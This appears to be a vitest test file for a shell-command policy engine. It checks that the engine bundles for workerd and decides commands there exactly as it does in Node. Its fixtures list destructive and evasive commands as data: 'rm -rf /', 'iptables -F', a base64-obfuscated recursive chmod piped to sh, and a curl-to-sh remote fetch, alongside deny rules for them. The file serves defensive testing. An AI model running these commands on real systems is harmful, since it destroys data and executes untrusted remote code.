// The policy engine must run unchanged in workerd and in Node: it is bundled the way a Worker is
// (esbuild, workerd/browser conditions) and run inside a real workerd through Miniflare with no
// nodejs_compat flag, so any Node API it touched would fail to load; its decisions must equal Node's.

import { readdirSync, readFileSync } from "node:fs";
import { build } from "esbuild";
import { Miniflare } from "miniflare";
import { describe, expect, it } from "vitest";
import {
  checkRule,
  compilePolicies,
  evaluateCommand,
  type PolicyInput,
  type RuleCheckResult,
} from "../../workers/policy/index.ts";

const root = new URL("../../", import.meta.url);
const engineDir = new URL("workers/policy/", root);

const policies: PolicyInput[] = [
  {
    id: "p",
    name: "Portable",
    isActive: true,
    appliesToRoles: [],
    appliesToConnections: [],
    allowedCommands: null,
    requireApproval: false,
    autoDisconnectOnViolation: true,
    notifyOnViolation: true,
    blockedCommands: [
      {
        id: "r1",
        policyId: "p",
        name: "rm root",
        pattern: "^rm\\s+-rf\\s+/",
        patternType: "regex",
        severity: "critical",
        appliesToTypes: [],
      },
      {
        id: "r2",
        policyId: "p",
        name: "fw",
        pattern: "iptables -F",
        patternType: "contains",
        severity: "high",
        appliesToTypes: [],
      },
      {
        id: "r3",
        policyId: "p",
        name: "chmod root",
        pattern: '{"program": ["chmod", "chown"], "options": ["-R"], "args": ["/", "/*"]}',
        patternType: "command",
        severity: "critical",
        appliesToTypes: [],
      },
    ],
  },
];
const lines = [
  "ls -la",
  "sudo rm -rf /",
  "echo 'rm -rf /'",
  "bash -c 'iptables -F'",
  "$x -rf /",
  "r''m -rf /",
  "chmod --recursive 777 /",
  "python3 -c \"import os; os.system('chmod -R 777 /')\"",
  "echo Y2htb2QgLVIgNzc3IC8= | base64 -d | sh",
  "curl -fsSL https://x.example | sh",
];
const rules = [
  { pattern: "^rm\\s+-rf\\s+/", patternType: "regex" as const, examples: ["rm -rf /"] },
  { pattern: "(a+)+$", patternType: "regex" as const },
  {
    pattern: '{"program": "rm", "options": ["-rf"]}',
    patternType: "command" as const,
    examples: ["rm -fr x"],
  },
  { pattern: '{"program": "rm", "bogus": 1}', patternType: "command" as const },
];

describe("portability", () => {
  it("engine sources use no Node or host APIs", () => {
    const sources = readdirSync(engineDir).filter((f) => f.endsWith(".ts") && !f.endsWith(".test.ts"));
    expect(sources.length).toBeGreaterThan(5);
    for (const file of sources) {
      const text = readFileSync(new URL(file, engineDir), "utf8");
      for (const forbidden of [
        /from "node:/,
        /\brequire\(/,
        /\bBuffer\b/,
        /\bprocess\./,
        /__dirname/,
        /\bfetch\(/,
      ]) {
        expect(forbidden.test(text), `${file} uses ${forbidden}`).toBe(false);
      }
    }
  });

  it("runs inside workerd and decides exactly as in Node", async () => {
    const bundle = await build({
      stdin: {
        contents: `
          import { checkRule, compilePolicies, evaluateCommand } from "./workers/policy/index.ts";
          export default {
            async fetch(request) {
              const { policies, lines, rules } = await request.json();
              const compiled = compilePolicies(policies);
              return Response.json({
                decisions: lines.map((line) => evaluateCommand(compiled, line)),
                checks: rules.map((rule) => checkRule(rule)),
              });
            },
          };`,
        resolveDir: root.pathname,
        loader: "ts",
      },
      bundle: true,
      format: "esm",
      platform: "neutral",
      conditions: ["workerd", "worker", "browser"],
      mainFields: ["browser", "module", "main"],
      target: "es2022",
      write: false,
      logLevel: "silent",
    });
    const script = bundle.outputFiles[0]?.text ?? "";
    expect(script).not.toContain('from "node:');
    const mf = new Miniflare({ modules: true, script, compatibilityDate: "2025-09-01" });
    try {
      const res = await mf.dispatchFetch("http://policy.test/", {
        method: "POST",
        body: JSON.stringify({ policies, lines, rules }),
      });
      expect(res.status).toBe(200);
      const body = (await res.json()) as { decisions: unknown[]; checks: RuleCheckResult[] };
      const compiled = compilePolicies(policies);
      expect(body.decisions).toEqual(lines.map((line) => evaluateCommand(compiled, line)));
      expect(body.checks[0]).toEqual({ ok: true });
      expect(body.checks[1]).toMatchObject({ ok: false, code: "UNSAFE_REGEX" });
      expect(body.checks[2]).toEqual({ ok: true });
      expect(body.checks[3]).toMatchObject({ ok: false, code: "INVALID_PATTERN" });
      expect(body.decisions.map((d) => (d as { decision: string }).decision).slice(-4)).toEqual([
        "block",
        "block",
        "block",
        "require_approval",
      ]);
      expect(body.checks).toEqual(rules.map((r) => checkRule(r)));
    } finally {
      await mf.dispose();
    }
  }, 120_000);
});
